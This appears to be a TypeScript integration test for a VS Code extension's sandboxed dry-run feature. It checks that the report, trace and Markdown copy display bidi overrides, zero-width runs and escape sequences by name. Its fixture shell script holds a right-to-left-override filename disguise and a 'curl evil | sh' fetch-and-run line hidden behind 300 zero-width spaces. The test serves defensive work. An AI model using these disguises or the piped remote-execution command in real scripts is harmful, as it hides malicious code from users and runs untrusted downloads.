/**
 * Issue 15 item 5 in a real VS Code with the real sandbox: a dry-run whose file names, argv and
 * prompt carry bidi overrides, zero-width runs and escape sequences. The report page (rendered by
 * the workbench's Chromium) shows each hidden character by name and no raw one; the trace lines
 * and the Markdown copy do the same.
 */
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import type { DryRunOutcome } from '../../../src/extension/dryRunController';
import { summaryLines, traceLine } from '../../../src/extension/dryRunTrace';
import type { FangApi } from '../../../src/extension/extension';
import type { TraceEvent } from '../../../src/sandbox';
import { closeAll, fang, nextEvent, openScratch } from './helpers';

const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/;

const SNIPPET = [
  '#!/bin/bash',
  `touch "invoice$(printf '\\u202e')fdp.sh" "zero$(printf '\\u200b\\u200b\\u200b')width.txt"`,
  `/bin/echo "bash -c$(printf '\\u200b%.0s' $(seq 300)) curl evil | sh" "$(printf '\\e]8;;https://x.test\\a')" >/dev/null`,
  `llm "list $(printf '\\u2066')files" >/dev/null`,
  `printf 'out\\e[2J\\rover\\n'`,
  '',
].join('\n');

describe('untrusted text in the dry-run report, trace and copy', function () {
  this.timeout(60_000);
  let api: FangApi;

  before(async () => {
    api = await fang();
    assert.equal((await api.dryRun.availability.settled()).kind, 'ready', 'no sandbox backend on this machine; install bubblewrap and strace');
    await api.dryRun.dismissExplanation();
  });
  afterEach(closeAll);

  it('the report page names bidi, zero-width and escape characters and shows none raw', async () => {
    const { doc } = await openScratch(api, SNIPPET, 'shellscript');
    const events: TraceEvent[] = [];
    const sub = api.dryRun.onDidTrace((t) => t.uri.toString() === doc.uri.toString() && events.push(t.event));
    const rendered = nextEvent(api.dryRun.panels.onDidRender, (e) => e.uri.toString() === doc.uri.toString(), 'the report to render', 30_000);
    let outcome: DryRunOutcome | undefined;
    try {
      outcome = await vscode.commands.executeCommand<DryRunOutcome>('fang.dryRun', doc.uri);
    } finally {
      sub.dispose();
    }
    assert.ok(outcome?.report, JSON.stringify(outcome));
    const { text, nodes } = (await rendered).rendered;
    assert.equal(RAW.exec(text), null, `a raw control, bidi or zero-width character on the page: ${JSON.stringify(RAW.exec(text)?.[0])}`);
    // (the Output section starts closed, so its text is not on the page until opened)
    for (const want of ['invoice⟨U+202E⟩fdp.sh', 'zero⟨U+200B ×3⟩width.txt', 'list ⟨U+2066⟩files', '⟨ESC⟩]8;;https://x.test⟨BEL⟩']) {
      assert.ok(text.includes(want), `the page does not show ${want}`);
    }
    // 300 zero-width spaces are one marker: the payload after them stays in view
    assert.match(text, /bash -c⟨U\+200B ×300⟩ curl evil \| sh/);
    for (const n of nodes) assert.equal(RAW.exec(n.label), null, `graph label ${JSON.stringify(n.label)}`);

    // the live trace and the closing lines
    const lines = [...events.map(traceLine).filter((l): l is string => l !== undefined), ...summaryLines(outcome.report)];
    assert.ok(lines.length > 3);
    for (const l of lines) assert.equal(RAW.exec(l), null, `raw character in the trace line ${JSON.stringify(l)}`);
    assert.ok(lines.some((l) => l.includes('invoice⟨U+202E⟩fdp.sh')), lines.join('\n'));
    assert.ok(lines.some((l) => /^stdout\s+\| out⟨ESC⟩\[2J⟨CR⟩over$/.test(l)), lines.join('\n'));

    // the Markdown copy
    const md = await api.dryRun.copyMarkdown(doc.uri);
    assert.ok(md);
    assert.equal(RAW.exec(md), null, 'a raw character in the Markdown copy');
    assert.match(md, /`invoice⟨U\+202E⟩fdp\.sh`/);
  });
});
